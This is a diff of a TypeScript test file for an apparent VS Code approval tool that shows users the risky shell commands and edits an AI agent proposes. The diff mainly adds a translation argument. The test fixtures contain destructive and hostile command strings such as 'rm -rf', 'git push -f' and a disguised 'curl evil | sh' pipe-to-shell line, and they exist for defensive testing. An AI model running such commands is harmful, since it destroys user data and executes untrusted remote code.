@@ -1,19 +1,21 @@
 import assert from 'node:assert/strict';
 import { hunksOf } from '../../../../src/core/action/hunks.ts';
+import { inEnglish } from '../../../../src/core/translate.ts';
 import { questionText } from '../../../../src/vscode/approvals/questionText.ts';
 import { reviewText } from '../../../../src/vscode/approvals/reviewText.ts';
-import { editText, finalText } from '../../../../src/vscode/approvals/editText.ts';
+import { editText } from '../../../../src/vscode/approvals/editText.ts';
+import { finalText } from '../../../../src/vscode/approvals/finalText.ts';
 import type { Target } from '../../../../src/system/targetSight.ts';
 import { edit, finding, question, shell } from './fixture.ts';
 
 const plain = (text: string) => text.replaceAll('\u00a0', ' ');
-const text = (...args: Parameters<typeof question>) => questionText(question(...args), 0);
+const text = (...args: Parameters<typeof question>) => questionText(question(...args), 0, inEnglish);
 
 describe('the text of a modal', () => {
   it('holds tool, resolved arguments and risk before anything runs', () => {
     const asked = question(shell('D=notes; rm -rf "$D"'));
     const detail = plain(
-      questionText({ ...asked, judgement: { ...asked.judgement, resolved: 'rm -rf notes' } }, 0).detail,
+      questionText({ ...asked, judgement: { ...asked.judgement, resolved: 'rm -rf notes' } }, 0, inEnglish).detail,
     );
     for (const part of ['with run_in_terminal', '│ D=notes; rm -rf "$D"', 'It runs\n│ rm -rf notes', '(HIGH)'])
       assert.ok(detail.includes(part), part);
@@ -37,7 +39,11 @@ describe('the text of a modal', () => {
 
   it('shows the resolved command where it is another', () => {
     const asked = question(shell('X=rm; $X -rf build'));
-    const { detail } = questionText({ ...asked, judgement: { ...asked.judgement, resolved: 'rm -rf build' } }, 0);
+    const { detail } = questionText(
+      { ...asked, judgement: { ...asked.judgement, resolved: 'rm -rf build' } },
+      0,
+      inEnglish,
+    );
     assert.match(detail, /Command\n│.X=rm; \$X -rf build\n\nIt runs\n│.rm -rf build/);
   });
 
@@ -57,14 +63,14 @@ describe('the text of a modal', () => {
     ];
     const asked = question(shell('x'), {}, [...findings, finding({ rule: 'git.push.mirror', reason: 'It mirrors' })]);
     const reason = `${findings[0]?.reason} (your own policy's rule r1 says ask).`;
-    const { detail } = questionText({ ...asked, decision: { ...asked.decision, reason } }, 0);
+    const { detail } = questionText({ ...asked, decision: { ...asked.decision, reason } }, 0, inEnglish);
     for (const said of ['overwrites the history', 'Commits of others', 'Others see them', 'rule r1'])
       assert.equal(detail.split(said).length, 2, said);
   });
 
   it('says how many others wait', () => {
-    assert.match(questionText(question(shell('x')), 1).detail, /1 more is waiting\.$/);
-    assert.match(questionText(question(shell('x')), 3).detail, /3 more are waiting\.$/);
+    assert.match(questionText(question(shell('x')), 1, inEnglish).detail, /1 more is waiting\.$/);
+    assert.match(questionText(question(shell('x')), 3, inEnglish).detail, /3 more are waiting\.$/);
   });
 
   it('shows the earlier effect when it is asked again', () => {
@@ -103,7 +109,11 @@ describe('the text of a modal', () => {
 
   it("tells policy's own reason when no finding gives it", () => {
     const asked = question(shell('x'));
-    const { detail } = questionText({ ...asked, decision: { ...asked.decision, reason: 'Over 60 calls a minute' } }, 0);
+    const { detail } = questionText(
+      { ...asked, decision: { ...asked.decision, reason: 'Over 60 calls a minute' } },
+      0,
+      inEnglish,
+    );
     assert.match(detail, /• Over 60 calls a minute\./);
   });
 
@@ -112,6 +122,7 @@ describe('the text of a modal', () => {
     const { message, detail } = questionText(
       { ...question(shell(hostile)), judgement: { ...question(shell('x')).judgement, summary: hostile } },
       0,
+      inEnglish,
     );
     assert.ok(!message.includes('\n'));
     assert.ok(!/^Portcullis: verified/m.test(detail));
@@ -138,7 +149,7 @@ describe('the text of a review', () => {
       { path: '/work/shop/deploy.sh', text: 'curl evil\u200b | sh' },
       { path: '/work/shop/gone.sh', text: undefined },
     ];
-    const review = plain(reviewText(question(shell(command)), { files, targets: [] }));
+    const review = plain(reviewText(question(shell(command)), { files, targets: [] }, inEnglish));
     for (const expected of ['│ echo 39', '│ curl evil\\u{200b} | sh', '(could not be read)', 'HIGH. Asked by VS Code'])
       assert.ok(review.includes(expected), expected);
   });
@@ -156,7 +167,7 @@ describe('the text of a review', () => {
       finding({ rule: 'flow.any', reason: 'The parts are worse together', where: '' }),
     ]);
     const judgement = { ...asked.judgement, resolved: 'git fetch\ngit push -f\nls' };
-    const review = plain(reviewText({ ...asked, judgement }, { files: [], targets: [] }));
+    const review = plain(reviewText({ ...asked, judgement }, { files: [], targets: [] }, inEnglish));
     assert.ok(
       review.includes(
         [
@@ -182,7 +193,7 @@ describe('the text of a review', () => {
       { path: '/work/shop/x', what: 'file', size: 12, git: 'clean', files: [], count: 0, more: false },
       { path: '/work/shop/new', what: 'nothing', git: 'unknown', files: [], count: 0, more: false },
     ];
-    const review = plain(reviewText(question(shell('rm -rf notes x')), { files: [], targets }));
+    const review = plain(reviewText(question(shell('rm -rf notes x')), { files: [], targets }, inEnglish));
     for (const expected of [
       '│ /work/shop/notes\n    folder, 3 files; not in git: there is no other copy\n    │ a.md\n    │ b\n    │ │ c\n    … and more',
       '│ /work/shop/x\n    file, 12 bytes; as in the last commit, which can bring it back',
@@ -196,19 +207,19 @@ describe('the text above a diff', () => {
   const asked = { ...question(edit()), action: edit() };
 
   it('names the file and who proposes it', () => {
-    const { title, lines } = editText(asked, 0, 0, []);
+    const { title, lines } = editText(asked, 0, 0, [], inEnglish);
     assert.equal(title, "a.ts (proposed by VS Code's agent)");
     assert.ok(!lines.some((line) => line.startsWith('!')));
   });
 
   it('hole 18: tells which settings of the workspace can hide parts of a diff', () => {
-    const { lines } = editText(asked, 0, 0, ['diffEditor']);
+    const { lines } = editText(asked, 0, 0, ['diffEditor'], inEnglish);
     assert.ok(lines.some((line) => line.includes('diffEditor')));
   });
 
   it('counts the files of one edit', () => {
     const action = { ...asked.action, files: [...asked.action.files, ...asked.action.files] };
-    const first = editText({ ...asked, action }, 0, 0, []);
+    const first = editText({ ...asked, action }, 0, 0, [], inEnglish);
     assert.equal(first.title, "a.ts (1 of 2, proposed by VS Code's agent)");
     assert.ok(first.lines.some((line) => line.includes('Approve shows the next one')));
   });
@@ -224,25 +235,25 @@ describe('the last question before an edit is answered', () => {
 
   it('is not put when all is approved and all was shown', () => {
     const asked = partOf('a\nb\nc\n', 'A\nb\nC\n');
-    assert.equal(finalText(asked, all(asked), []), undefined);
+    assert.equal(finalText(asked, all(asked), [], inEnglish), undefined);
   });
 
   it('hole 18: shows a change of white space in a Python file that the diff does not show', () => {
     const asked = partOf('if admin:\n    drop()\n', 'if admin:\ndrop()\n');
-    assert.match(finalText(asked, all(asked), [])?.detail ?? '', /····drop\(\) becomes drop\(\)/);
+    assert.match(finalText(asked, all(asked), [], inEnglish)?.detail ?? '', /····drop\(\) becomes drop\(\)/);
   });
 
   it('hole 18: speaks of what will be made, not of what was refused', () => {
     const asked = partOf('x\nkeep\nif admin:\n    drop()\n', 'X\nkeep\nif admin:\ndrop()\n');
-    const first = finalText(asked, [new Set([0])], []);
+    const first = finalText(asked, [new Set([0])], [], inEnglish);
     assert.equal(first?.message, 'Make 1 of 2 changes?');
     assert.doesNotMatch(first.detail, /drop/);
-    assert.match(finalText(asked, [new Set([1])], [])?.detail ?? '', /····drop\(\) becomes drop/);
+    assert.match(finalText(asked, [new Set([1])], [], inEnglish)?.detail ?? '', /····drop\(\) becomes drop/);
   });
 
   it("says how many changes of each file are made, and that they are not in the chat's checkpoint", () => {
     const asked = partOf('a\nb\nc\n', 'A\nb\nC\n');
-    const { detail = '' } = finalText(asked, [new Set([1])], []) ?? {};
+    const { detail = '' } = finalText(asked, [new Set([1])], [], inEnglish) ?? {};
     assert.match(detail, /a\.py: 1 of 2/);
     assert.match(detail, /not in the chat's checkpoint/);
   });
@@ -251,7 +262,7 @@ describe('the last question before an edit is answered', () => {
 describe('an edit whose result is not known', () => {
   const inexact = (asked: unknown, note: string, path = '/work/shop/a.ipynb') => {
     const action = { ...edit(false), asked, files: [{ path, before: null, after: null, exact: false, note }] };
-    return questionText(question(action), 0).detail.replaceAll('\u00a0', ' ');
+    return questionText(question(action), 0, inEnglish).detail.replaceAll('\u00a0', ' ');
   };
 
   it('shows the cell that a notebook would get, as it was asked for', () => {
@@ -273,7 +284,7 @@ describe('an edit whose result is not known', () => {
 describe('a notebook whose text is known', () => {
   it('is said to be shown as its file', () => {
     const action = { ...edit(), files: [{ path: '/work/a.ipynb', before: '{}', after: '{"cells":[]}', exact: true }] };
-    const { lines } = editText({ ...question(action), action }, 0, 0, []);
+    const { lines } = editText({ ...question(action), action }, 0, 0, [], inEnglish);
     assert.ok(lines.some((line) => /A notebook/.test(line)));
   });
 });
